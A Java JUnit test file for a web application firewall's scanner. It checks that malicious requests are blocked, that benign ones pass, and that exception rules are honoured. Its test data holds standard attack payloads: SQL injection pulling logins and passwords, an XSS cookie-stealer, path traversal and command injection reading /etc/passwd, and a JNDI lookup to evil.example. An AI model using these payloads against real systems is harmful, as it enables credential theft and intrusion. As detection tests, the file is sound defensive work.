package pt.sunbeam.proxy.exchange;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.time.Duration;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import pt.sunbeam.config.ExceptionRule;
import pt.sunbeam.config.ScannerMode;
import pt.sunbeam.config.SunbeamConfig;
import pt.sunbeam.detector.audit.Redaction;
import pt.sunbeam.detector.canon.Place;
import pt.sunbeam.detector.http.RequestHead;
import pt.sunbeam.detector.lexicon.Channel;
import pt.sunbeam.detector.model.Models;
import pt.sunbeam.detector.scan.Reason;

/** With the model that is compiled in. */
class LexiconScannerTest {
    private static final String ROUTE = "docs/items";
    private static final RequestHead ATTACK =
            request("/items?page=2&id=1%27%20UNION%20SELECT%20login,%20password%20FROM%20users--%20");

    @Test
    void aBlockNamesChannelPlaceNameAndWhatWasFound() {
        var decision = scanner().decide(ATTACK, ROUTE);

        assertThat(decision.block()).isTrue();
        assertThat(decision.score()).isGreaterThanOrEqualTo(0.5);
        assertThat(decision.reasons()).hasSizeBetween(1, 3);
        assertThat(decision.reasons().getFirst()).startsWith("sqli query id: ").contains("union select");
    }

    @Test
    void anOrdinaryRequestPassesWithoutReasons() {
        var decision = scanner().decide(request("/items?page=2&sort=price&q=blue+suede+shoes"), ROUTE);

        assertThat(decision.block()).isFalse();
        assertThat(decision.reasons()).isEmpty();
    }

    @Test
    void noHeaderThatIsAddedLetsAnAttackPass() {
        var dressed = RequestHead.of(
                "GET",
                ATTACK.target(),
                "Host",
                "docs.example.org",
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
                "Cookie",
                "session=5f2b8c0e9a",
                "Referer",
                "https://docs.example.org/items",
                "Accept",
                "text/html,application/xhtml+xml,*/*;q=0.8",
                "Accept-Language",
                "pt-PT,pt;q=0.9");
        var bare = RequestHead.of("GET", ATTACK.target(), "Host", "docs.example.org");

        assertThat(scanner().decide(dressed, ROUTE).block()).isTrue();
        assertThat(scanner().decide(bare, ROUTE).block()).isTrue();
    }

    @Test
    void anExceptionHoldsForItsRoutePlaceNameAndChannelAlone() {
        assertThat(blocks(new ExceptionRule(ROUTE, Place.QUERY, "ID", Channel.SQLI)))
                .isFalse();
        assertThat(blocks(new ExceptionRule(null, null, "id", null))).isFalse();
        assertThat(blocks(new ExceptionRule(null, Place.QUERY, null, null))).isFalse();

        assertThat(blocks(new ExceptionRule("docs/other", Place.QUERY, "id", Channel.SQLI)))
                .isTrue();
        assertThat(blocks(new ExceptionRule(ROUTE, Place.COOKIE, "id", Channel.SQLI)))
                .isTrue();
        assertThat(blocks(new ExceptionRule(ROUTE, Place.QUERY, "page", null))).isTrue();
        assertThat(blocks(new ExceptionRule(ROUTE, Place.QUERY, "id", Channel.TRAVERSAL)))
                .isTrue();
    }

    private static boolean blocks(ExceptionRule rule) {
        return scanner(rule).decide(ATTACK, ROUTE).block();
    }

    @Test
    void theBodyIsReadWithTheHead() {
        var head = RequestHead.of(
                "POST",
                "/items",
                "Host",
                "docs.example.org",
                "Content-Type",
                "application/json",
                "Content-Length",
                "60");
        byte[] bad = "{\"a\":1,\"note\":\"x' UNION SELECT login, password FROM users-- \"}".getBytes(UTF_8);
        byte[] good = "{\"a\":1,\"note\":\"see you at the union, select a seat\"}".getBytes(UTF_8);

        assertThat(scanner().decide(head, bad, ROUTE).reasons().getFirst()).startsWith("sqli json note: ");
        assertThat(scanner().decide(head, good, ROUTE).block()).isFalse();
        assertThat(scanner(new ExceptionRule(null, Place.JSON, "note", null))
                        .decide(head, bad, ROUTE)
                        .block())
                .isFalse();
    }

    @Test
    void aBodyThatTurnsBadInTheMiddleOfAValueIsSeenBeforeTheValueEnds() {
        var head = RequestHead.of(
                "POST",
                "/items",
                "Host",
                "docs.example.org",
                "Content-Type",
                "application/json",
                "Content-Length",
                "9999");
        var inspection = scanner().body(head, ROUTE, new Redaction(Set.of(), false, new byte[16]).bodyShape());
        for (String piece : List.of(
                "{\"note\":\"" + "plain words ".repeat(600), "1' UNION ", "SELECT login, password FROM users-- ")) {
            assertThat(inspection.isBlocked()).isFalse();
            byte[] bytes = piece.getBytes(UTF_8);
            inspection.feed(bytes, 0, bytes.length);
        }
        assertThat(inspection.isBlocked()).isTrue();
        assertThat(inspection.decision()).isNotNull();
    }

    @Test
    void theSmallestEditIsTheValueThatBlocks() {
        assertThat(scanner().edit(ATTACK, new byte[0], ROUTE))
                .extracting(Reason::place, Reason::name)
                .containsExactly(tuple(Place.QUERY, "id"));
    }

    @Test
    void aReasonIsReadBackAsItWasWritten() {
        var reason = new Reason(Channel.COMMAND, Place.FORM, "a b", "; cat /etc/passwd", 0);
        assertThat(Reason.parse(reason.text())).isEqualTo(reason);
        var unnamed = new Reason(Channel.TRAVERSAL, Place.PATH, "", "/../: x", 0);
        assertThat(Reason.parse(unnamed.text())).isEqualTo(unnamed);
        assertThat(Reason.parse("any=120")).isNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                "/?file=../../../../etc/passwd",
                "/?host=127.0.0.1%3Bcat%20/etc/passwd",
                "/?x=$%7Bjndi:ldap://evil.example/a%7D",
                "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            })
    void blatantAttacksAreBlocked(String target) {
        assertThat(scanner().decide(request(target), "").block()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/favicon.ico",
                "/search?q=select+a+union+representative",
                "/search?q=O%27Reilly+and+sons",
                "/api/v1/users?filter=name%20eq%20%27anna%27",
                "/login?return=https%3A%2F%2Fexample.org%2Faccount%3Ftab%3Dorders%26page%3D2",
                "/?utm_source=news&utm_medium=email&utm_campaign=spring%202026&gclid=EAIaIQobChMI1f_Y2",
                "/wiki/C++_(programming_language)",
                "/docs?id=3f2504e0-4f89-11d3-9a0c-0305e82c3301",
                "/graphql?query=%7Buser(id:4)%7Bname%7D%7D",
            })
    void ordinaryRequestsPass(String target) {
        assertThat(scanner().decide(request(target), "").reasons()).isEmpty();
    }

    private static RequestHead request(String target) {
        return RequestHead.of("GET", target, "Host", "docs.example.org", "User-Agent", "curl/8.5.0", "Accept", "*/*");
    }

    private static LexiconScanner scanner(ExceptionRule... exceptions) {
        return new LexiconScanner(
                new SunbeamConfig.Scanner(
                        true,
                        ScannerMode.LEXICON,
                        0.5,
                        false,
                        false,
                        false,
                        List.of(),
                        Duration.ofDays(1),
                        SunbeamConfig.Bodies.DEFAULTS,
                        List.of(exceptions)),
                Models.scanner());
    }
}
